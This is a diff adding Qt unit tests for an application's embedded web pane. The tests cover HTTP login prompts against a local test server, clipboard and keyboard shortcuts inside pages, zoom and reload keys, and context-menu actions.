+    QTRY_COMPARE_WITH_TIMEOUT(f.onView()->title(), outcome, 20000);
+    QVERIFY(f.prompts->verifyDone());
+}
+
+void TestWebPane::login_data()
+{
+    QTest::addColumn<bool>("answer");
+    QTest::addColumn<QString>("typed");
+    QTest::addColumn<QString>("title");
+    QTest::newRow("logged in") << true << "reader:secret"
+                               << "Welcome";
+    QTest::newRow("wrong password, then cancelled") << true << "reader:guess"
+                                                    << "Refused";
+    QTest::newRow("cancelled") << false << ""
+                               << "Refused";
+}
+
+// A site that asks for a user name and password (HTTP authentication) gets them from the user.
+void TestWebPane::login()
+{
+    QFETCH(bool, answer);
+    QFETCH(QString, typed);
+    QFETCH(QString, title);
+    LocalWebServer server([](const LocalWebServer::Request &r) {
+        if (r.header("Authorization") == "Basic " + QByteArray("reader:secret").toBase64())
+            return LocalWebServer::page("Welcome");
+        Response refused = LocalWebServer::page("Refused");
+        refused.status = "401 Unauthorized";
+        refused.extraHeaders = "WWW-Authenticate: Basic realm=\"Library\"\r\n";
+        return refused;
+    });
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"journal"});
+    const QString message = QStringLiteral("The site 127.0.0.1 asks for a user name and "
+                                           "password.\n\nIt says: Library");
+    f.prompts->expectLogin(QStringLiteral("Log In"), message, answer, typed);
+    if (answer && title == u"Refused") // asked again after a wrong password
+        f.prompts->expectLogin(QStringLiteral("Log In"), message, false);
+    f.click("lstbxTerms", 0);
+    QTRY_COMPARE_WITH_TIMEOUT(f.onView()->title(), title, 60000);
+    QVERIFY(f.prompts->verifyDone());
+}
+
+void TestWebPane::clipboardKeysInPage_data()
+{
+    QTest::addColumn<QString>("select");
+    QTest::addColumn<int>("key");
+    QTest::addColumn<QString>("clipboard");
+    QTest::addColumn<QString>("field");
+    QTest::addColumn<bool>("console");
+    const QString inField = QStringLiteral("q.focus(); q.select()");
+    QTest::newRow("Ctrl+C in a field with its text selected")
+            << inField << int(Qt::Key_C) << "hello world"
+            << "hello world" << false;
+    QTest::newRow("Ctrl+X in a field with its text selected")
+            << inField << int(Qt::Key_X) << "hello world"
+            << "" << false;
+    QTest::newRow("Ctrl+C in a field without a selection")
+            << QStringLiteral("q.focus()") << int(Qt::Key_C) << "before"
+            << "hello world" << false;
+    QTest::newRow("Ctrl+C on text selected in the page")
+            << QStringLiteral("getSelection().selectAllChildren(p)") << int(Qt::Key_C)
+            << "plain words"
+            << "hello world" << false;
+    QTest::newRow("Ctrl+C with nothing to copy is the console's")
+            << QStringLiteral("document.activeElement.blur()") << int(Qt::Key_C) << "before"
+            << "hello world" << true;
+}
+
+// Ctrl+C and Ctrl+X belong to the page when it has a selection or a field with the focus.
+void TestWebPane::clipboardKeysInPage()
+{
+    QFETCH(QString, select);
+    QFETCH(int, key);
+    QFETCH(QString, clipboard);
+    QFETCH(QString, field);
+    QFETCH(bool, console);
+    LocalWebServer server([](const LocalWebServer::Request &) {
+        return LocalWebServer::page("Form",
+                                    "<input id=q value='hello world'>"
+                                    "<p id=p>plain words</p>");
+    });
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"form"});
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=form"), 60000);
+    QApplication::clipboard()->setText(QStringLiteral("before"));
+    f.onView()->setFocus();
+    QTRY_VERIFY(pageWidget(f)->hasFocus());
+    f.run(select);
+    if (clipboard != u"before")
+        QTRY_VERIFY(f.onView()->page()->hasSelection());
+    QTest::qWait(200); // the page tells where its focus is on its own time
+    QTest::keyClick(QApplication::focusWidget(), Qt::Key(key), Qt::ControlModifier);
+    QTRY_COMPARE_WITH_TIMEOUT(QApplication::clipboard()->text(), clipboard, 5000);
+    QTRY_COMPARE_WITH_TIMEOUT(f.run(QStringLiteral("q.value")).toString(), field, 5000);
+    QCOMPARE(f.window->console()->isVisible(), console);
+}
+
+void TestWebPane::paneKeys_data()
+{
+    QTest::addColumn<QKeyCombination>("key");
+    QTest::addColumn<int>("delayMs");
+    QTest::addColumn<QString>("expect");
+    QTest::newRow("F5 reloads") << QKeyCombination(Qt::Key_F5) << 0 << "2 requests";
+    QTest::newRow("Ctrl+Plus zooms in") << (Qt::CTRL | Qt::Key_Plus) << 0 << "zoom 1.1";
+    QTest::newRow("Ctrl+Minus zooms out") << (Qt::CTRL | Qt::Key_Minus) << 0 << "zoom 0.9";
+    QTest::newRow("Ctrl+0 resets the zoom") << (Qt::CTRL | Qt::Key_0) << 0 << "zoom 1";
+    QTest::newRow("Escape stops a load") << QKeyCombination(Qt::Key_Escape) << 30000 << "stopped";
+}
+
+// The pane's keys reach it from the page: the command set leaves them free.
+void TestWebPane::paneKeys()
+{
+    QFETCH(QKeyCombination, key);
+    QFETCH(int, delayMs);
+    QFETCH(QString, expect);
+    LocalWebServer server([&](const LocalWebServer::Request &) {
+        Response page = LocalWebServer::page("Page");
+        page.delayMs = delayMs;
+        return page;
+    });
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"k"});
+    f.trigger("actLoadAhead");
+    f.click("lstbxTerms", 0);
+    if (delayMs == 0)
+        QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=k"), 60000);
+    else
+        QTRY_VERIFY_WITH_TIMEOUT(server.inFlight == 1, 60000);
+    f.onView()->setFocus();
+    QTest::keyClick(pageWidget(f), key.key(), key.keyboardModifiers());
+    if (expect == u"2 requests")
+        QTRY_COMPARE_WITH_TIMEOUT(server.requestsFor("/s?q=k").size(), 2, 10000);
+    else if (expect == u"stopped")
+        QTRY_VERIFY_WITH_TIMEOUT(!f.onView()->page()->isLoading(), 10000);
+    else
+        QTRY_COMPARE(f.onView()->zoomFactor(), expect.mid(5).toDouble());
+    QVERIFY(!f.window->console()->isVisible());
+}
+
+void TestWebPane::contextMenuItems()
+{
+    LocalWebServer server;
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"menu"});
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=menu"), 60000);
+    const QString address = QString::fromLatin1(server.base() + "/s?q=menu");
+    f.window->findChild<QAction *>(QStringLiteral("brwOpenInBrowser"))->trigger();
+    QCOMPARE(f.launched, QStringList {address});
+    f.window->findChild<QAction *>(QStringLiteral("brwCopyAddress"))->trigger();
+    QCOMPARE(QApplication::clipboard()->text(), address);
+}
+
+GL_WEB_TEST_MAIN(TestWebPane)
 #include "tst_webpane.moc"
